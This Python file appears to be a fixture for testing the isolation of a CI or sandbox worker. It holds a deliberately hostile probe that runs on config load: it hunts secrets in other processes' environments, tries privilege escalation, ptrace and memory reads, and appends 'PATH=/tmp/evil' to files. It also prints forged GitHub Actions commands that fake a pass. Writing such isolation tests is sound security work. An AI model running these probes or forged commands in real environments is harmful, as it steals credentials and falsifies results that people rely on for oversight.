"""Model code that looks for tokens and ways out. Copied into a checkout; runs in a worker when its config is loaded.

What it finds it prints as one line of JSON after ``FOUND``; what it must not print it says first.
"""

# As an attacker would write it.
# ruff: noqa: PTH123, PTH207, PTH208

import contextlib
import ctypes
import glob
import json
import os
import socket
import time
from pathlib import Path

PLAN = json.loads((Path(__file__).parent / "spying.json").read_text())
SECRETS = [secret.encode() for secret in PLAN["secrets"]]

PTRACE_ATTACH = 16


class Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def environments():
    """Environments of processes that this one can read, and those that hold a secret."""
    readable, holding = [], []
    whose = PLAN.get("processes", "[0-9]*")
    for path in glob.glob(f"/proc/{whose}/environ") + glob.glob(f"/proc/{whose}/task/*/environ"):
        with contextlib.suppress(OSError):
            content = Path(path).read_bytes()
            readable.append(path)
            if any(secret in content for secret in SECRETS):
                holding.append(path)
    return readable, holding


def others():
    """The processes of the action; none where this one is not alone with them."""
    found = []
    if "processes" in PLAN:
        return found
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if b"entrypoint" in Path(path).read_bytes():
                found.append(int(path.split("/")[2]))
    return found


def succeeds(attempt):
    try:
        attempt()
    except OSError as error:
        return f"no: {error.strerror}"
    return "yes"


def call(name, *arguments):
    library = ctypes.CDLL(None, use_errno=True)
    if getattr(library, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def read_other_memory(pid):
    buffer = ctypes.create_string_buffer(16)
    here = Part(ctypes.cast(buffer, ctypes.c_void_p), 16)
    there = Part(id(buffer), 16)
    call("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)


def connect(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)


def append(path):
    with open(path, "a") as file:
        file.write("PATH=/tmp/evil\n")


def spy():
    readable, holding = environments()
    found = {
        "uid": os.geteuid(),
        "groups": os.getgroups(),
        "environment": sorted(os.environ),
        "secrets in environment": [secret for secret in PLAN["secrets"] if secret in os.environ.values()],
        "readable environments": len(readable),
        "environments with a secret": holding,
        "others": others(),
        "root again": succeeds(lambda: os.setresuid(0, 0, 0)),
        "files": {path: succeeds(lambda path=path: append(path)) for path in PLAN["files"]},
        "sockets": {path: succeeds(lambda path=path: connect(path)) for path in PLAN["sockets"]},
    }
    for pid in found["others"]:
        found[f"attacks on {pid}"] = {
            "environ": succeeds(lambda pid=pid: Path(f"/proc/{pid}/environ").read_bytes()),
            "memory": succeeds(lambda pid=pid: open(f"/proc/{pid}/mem", "rb").close()),
            "descriptors": succeeds(lambda pid=pid: os.listdir(f"/proc/{pid}/fd")),
            "folder": succeeds(lambda pid=pid: os.listdir(f"/proc/{pid}/root")),
            "trace": succeeds(lambda pid=pid: call("ptrace", PTRACE_ATTACH, pid, 0, 0)),
            "read": succeeds(lambda pid=pid: read_other_memory(pid)),
            "signal": succeeds(lambda pid=pid: os.kill(pid, 0)),
        }
    return found


print("::set-output name=passed::1000")
print("text ##[error]forged")
print("::add-mask::model")
print("FOUND " + json.dumps(spy()), flush=True)
if PLAN.get("hang"):
    time.sleep(600)
raise SystemExit("seen enough")


class SpyConfig:
    """Never reached."""
